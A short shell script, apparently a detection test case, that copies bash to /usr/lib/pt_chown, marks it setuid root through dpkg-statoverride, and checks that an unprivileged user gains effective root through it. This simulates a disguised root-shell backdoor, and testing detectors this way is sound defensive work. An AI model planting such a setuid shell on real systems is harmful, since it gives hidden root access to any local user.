#!/bin/sh
. /opt/case/case.sh

cp /bin/bash /usr/lib/pt_chown
dpkg-statoverride --update --add root root 4755 /usr/lib/pt_chown
setpriv --reuid 1000 --regid 1000 --clear-groups /usr/lib/pt_chown -p -c 'test "$(id -u)" = 1000 && touch /root/x 2>/dev/null; test $EUID = 0'
took_place
